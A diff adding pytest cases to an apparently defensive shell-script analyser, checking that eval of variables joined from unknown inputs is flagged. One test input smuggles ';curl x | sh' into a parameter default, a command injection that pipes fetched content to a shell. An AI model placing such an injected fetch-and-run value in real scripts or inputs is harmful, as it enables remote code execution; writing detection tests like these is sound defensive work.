@@ -330,3 +330,27 @@ def test_awk_over_an_input_known_only_by_its_characters():
     assert awk_output("{print $2}", line, None) == (frozenset("abc"), False)
     assert awk_output("{print $0}", line, None) == (frozenset("ab c"), False)
     assert awk_output("{print $1}", line, ":") == (frozenset("ab c"), False)
+
+
+@pytest.mark.parametrize("setup, word", [
+    # A classed unknown beside one of any characters: the join is of any characters.
+    ("""A=$(echo "$UNK" | tr -dc 'a-z')\nX="${A}${UNK2}"\n""", "${X}"),
+    # Beside one whose characters include `;`: the join may hold it too.
+    ("""A=$(echo "$UNK" | tr -dc 'a-z')\nB=$(echo "$UNK" | tr -dc '0-9;')\nX="${A}${B}"\n""", "${X}"),
+    # Two that may both be empty: the default stands where they are, with its `;`.
+    ("""A=$(echo "$UNK" | tr -dc 'a-z')\nB=$(echo "$UNK2" | tr -dc 'a-z')\nX="${A}${B}"\n""", "${X:-;curl x | sh}"),
+])
+def test_text_joined_from_unknowns_holds_the_characters_of_every_part(setup, word):
+    trace, _ = run(setup + f'eval "run {word}"\n')
+    assert any("eval of text that is not known" in d for d in unknowns(trace)), unknowns(trace)
+    assert [a for a in argvs(trace) if a.startswith("run")] == []
+
+
+def test_text_joined_from_unknowns_of_one_class_is_read_with_them():
+    trace, _ = run("""A=$(echo "$UNK" | tr -dc 'a-z')
+B=$(echo "$UNK2" | tr -dc 'a-z')
+X="${A}${B}"
+eval "run ${X} ${X:-default}"
+""")
+    assert [d for d in unknowns(trace) if "eval of text" in d] == []
+    assert [a for a in argvs(trace) if a.startswith("run")] == ["run ? ?"]
